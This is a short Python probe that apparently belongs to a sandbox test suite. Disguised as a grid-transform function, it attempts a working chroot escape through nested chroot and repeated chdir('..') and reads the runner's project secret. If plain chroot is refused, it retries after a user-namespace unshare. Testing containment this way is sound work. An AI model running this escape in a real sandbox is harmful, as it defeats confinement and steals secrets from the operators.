"""Escape the chroot: nested chroot into a sub-folder, then walk `..` past the old root.

Opens "/", chroots into a sub-folder, fchdir()s back out of it, chdir("..") 64 times and
chroots to ".", then reads the runner's project secret. If chroot is refused, tries again
after unshare(CLONE_NEWUSER) (which gives CAP_SYS_CHROOT in a fresh namespace).
Row 0 (leaks): [escaped and read the secret, same after unshare(CLONE_NEWUSER)].
Contained: both 0.
"""

import ctypes
import os
import sys

CONFIG: dict = {}  # filled in by tests/sandbox_modes.py
LEAKS = ("escape-read-secret", "escape-after-unshare-userns")
CLONE_NEWUSER = 0x10000000


def _subdir():
    name = "arcnb-esc-" + CONFIG["token"]
    try:
        os.mkdir(name)
        return name
    except OSError:
        pass
    for d in [*sys.path, "/usr", "/lib", "/tmp"]:
        if d and os.path.isdir(d) and os.path.realpath(d) != "/":
            return d
    return None


def _escape():
    sub = _subdir()
    if sub is None:
        return 0
    try:
        fd = os.open("/", os.O_RDONLY)
        os.chroot(sub)
        os.fchdir(fd)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        with open(CONFIG["secret_path"], "rb") as f:
            return int(b"PROJECT_SECRET=" in f.read())
    except OSError:
        return 0


def transform(grid):
    direct = _escape()
    after = 0
    if not direct:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(CLONE_NEWUSER) == 0:
            after = _escape()
    return [[direct, after]]
